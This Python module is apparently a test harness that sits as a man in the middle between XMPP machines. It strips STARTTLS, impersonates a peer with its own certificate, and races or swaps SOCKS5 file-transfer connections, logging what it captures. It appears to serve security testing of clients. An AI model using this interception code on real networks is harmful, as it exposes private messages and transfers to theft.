"""A man in the middle: sits between two machines and does to their streams what he likes.

He listens where one machine believes the other to be (`Middle.listen`, in one network namespace) and
dials on from a namespace of his own. What a connection carries is told by its first byte: `<` is an
XML stream, 5 is SOCKS5.

Modes: pass (looks only), strip (takes STARTTLS out of the features), own-key (answers STARTTLS
himself, with his own certificate), sniff (dials with the SID that he sees, before its owner does),
swap (crosses two SOCKS5 connections), features (takes our namespace out of what he can read).
"""
import ctypes
import os
import re
import socket
import ssl
import struct
import subprocess
import threading

ORIGINAL_DESTINATION = 80
libc = ctypes.CDLL(None, use_errno=True)


def enter(namespace):
    """Moves the calling thread, and what it opens from now on, into a network namespace."""
    with open(f"/run/netns/{namespace}") as handle:
        if libc.setns(handle.fileno(), 0x40000000) != 0:
            raise OSError(ctypes.get_errno(), "setns")


def original(client):
    """Where a redirected connection wanted to go."""
    if client.family == socket.AF_INET6 and not client.getsockname()[0].startswith("::ffff:"):
        raw = client.getsockopt(socket.IPPROTO_IPV6, ORIGINAL_DESTINATION, 28)
        return socket.inet_ntop(socket.AF_INET6, raw[8:24]), struct.unpack(">H", raw[2:4])[0]
    raw = client.getsockopt(socket.IPPROTO_IP, ORIGINAL_DESTINATION, 16)
    return socket.inet_ntoa(raw[4:8]), struct.unpack(">H", raw[2:4])[0]


def exactly(stream, count):
    data = b""
    while len(data) < count:
        part = stream.recv(count - len(data))
        if not part:
            raise EOFError("ended")
        data += part
    return data


class Middle:
    def __init__(self, outside, folder):
        self.outside, self.folder = outside, folder
        self.mode = "pass"
        self.seen, self.stolen, self.handshakes = [], [], []
        self.waiting = None
        self.lock = threading.Lock()

    def listen(self, namespace, port):
        ready = threading.Event()

        def serve():
            enter(namespace)
            listeners = []
            for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
                listener = socket.socket(family, socket.SOCK_STREAM)
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                if family == socket.AF_INET6:
                    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                listener.bind((address, port))
                listener.listen(128)
                listeners.append(listener)
            for listener in listeners:
                threading.Thread(target=self.take, args=(listener,), daemon=True).start()
            ready.set()
        threading.Thread(target=serve, daemon=True).start()
        if not ready.wait(10):
            raise TimeoutError("the man in the middle does not listen")

    def take(self, listener):
        while True:
            client, _ = listener.accept()
            threading.Thread(target=self.handle, args=(client,), daemon=True).start()

    def dial(self, address):
        server = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET)
        server.settimeout(20)
        # A link-local address says nothing without its interface.
        scope = (0, socket.if_nametoindex("eth0")) if address[0].startswith("fe80") else ()
        server.connect(address + scope)
        server.settimeout(None)
        return server

    def handle(self, client):
        try:
            enter(self.outside)
            address = original(client)
            first = client.recv(1, socket.MSG_PEEK)
            kind = {b"<": "xml", b"\x05": "socks"}.get(first, "other")
            if kind == "socks" and self.mode in ("sniff", "swap"):
                return self.socks(client, address)
            if kind == "xml" and self.mode == "own-key":
                return self.own_key(client)
            server = self.dial(address)
            if kind == "xml" and self.mode == "strip":
                self.both(client, server, kind, self.stripped)
            else:
                self.both(client, server, kind, None)
        except (OSError, EOFError) as error:
            self.note("error", repr(error).encode())
            client.close()

    def note(self, what, data):
        with self.lock:
            self.seen.append((what, data[:4096]))

    def both(self, client, server, kind, change):
        """Carries bytes both ways until both have ended."""
        def carry(source, target, direction, change):
            try:
                while data := source.recv(65536):
                    self.note(f"{kind} {direction}", data)
                    target.sendall(change(data) if change else data)
                target.shutdown(socket.SHUT_WR)
            except OSError:
                for each in (source, target):
                    try:
                        each.shutdown(socket.SHUT_RDWR)
                    except OSError:
                        pass
        back = threading.Thread(target=carry, args=(server, client, "back", change), daemon=True)
        back.start()
        carry(client, server, "there", None)
        back.join()
        client.close()
        server.close()

    @staticmethod
    def stripped(data):
        return re.sub(rb"<starttls[^>]*/>|<starttls\b.*?</starttls>", b"", data, flags=re.S)

    def own_key(self, client):
        """Plays the other machine with a certificate of his own."""
        key, certificate = os.path.join(self.folder, "key.pem"), os.path.join(self.folder, "own.pem")
        with self.lock:
            if not os.path.exists(certificate):
                subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                                "ec_paramgen_curve:P-256", "-nodes", "-keyout", key, "-out", certificate,
                                "-subj", "/CN=mallory", "-days", "30"], check=True, capture_output=True)
        client.settimeout(20)
        opened = client.recv(65536).decode(errors="replace")
        us = re.search(r"\bto=['\"]([^'\"]*)", opened)
        them = re.search(r"\bfrom=['\"]([^'\"]*)", opened)
        client.sendall(
            b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' version='1.0' "
            b"xmlns:stream='http://etherx.jabber.org/streams' id='1' from='%s' to='%s'><stream:features>"
            b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'><required/></starttls></stream:features>"
            % (us.group(1).encode() if us else b"", them.group(1).encode() if them else b""))
        asked = b""
        while b"starttls" not in asked:
            part = client.recv(65536)
            if not part:
                raise EOFError("no STARTTLS asked")
            asked += part
            self.note("xml there", part)
        client.sendall(b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.load_cert_chain(certificate, key)
        try:
            secured = context.wrap_socket(client, server_side=True)
            said = secured.recv(65536)
            self.handshakes.append("told: " + said.decode(errors="replace") if said else "closed")
            secured.close()
        except (ssl.SSLError, OSError) as error:
            self.handshakes.append(f"refused: {error}")

    def greeted(self, address, request):
        """A SOCKS5 connection to `address` that asked for what `request` says; with its reply."""
        server = self.dial(address)
        server.settimeout(20)
        server.sendall(b"\x05\x01\x00")
        exactly(server, 2)
        server.sendall(request)
        head = exactly(server, 4)
        rest = {1: 4, 4: 16}.get(head[3])
        reply = head + (exactly(server, rest + 2) if rest else
                        (lambda n: n + exactly(server, n[0] + 2))(exactly(server, 1)))
        server.settimeout(None)
        return server, reply

    def socks(self, client, address):
        head = exactly(client, 2)
        exactly(client, head[1])
        client.sendall(b"\x05\x00")
        request = exactly(client, 5)
        request += exactly(client, request[4] + 2)
        if self.mode == "sniff":
            try:
                thief, reply = self.greeted(address, request)
                thief.settimeout(3)
                thief.sendall(b"GET / HTTP/1.0\r\n\r\n")
                try:
                    self.stolen.append((reply[1], thief.recv(4096)))
                except OSError:
                    self.stolen.append((reply[1], b""))
                self.kept_open = thief
            except (OSError, EOFError):
                self.stolen.append((-1, b""))
            server, reply = self.greeted(address, request)
            client.sendall(reply)
            return self.both(client, server, "socks", None)
        server, reply = self.greeted(address, request)
        client.sendall(reply)
        with self.lock:
            other, self.waiting = self.waiting, None if self.waiting else (client, server)
        if other:
            self.note("swapped", b"")
            first = threading.Thread(target=self.both, args=(client, other[1], "socks", None), daemon=True)
            first.start()
            self.both(other[0], server, "socks", None)
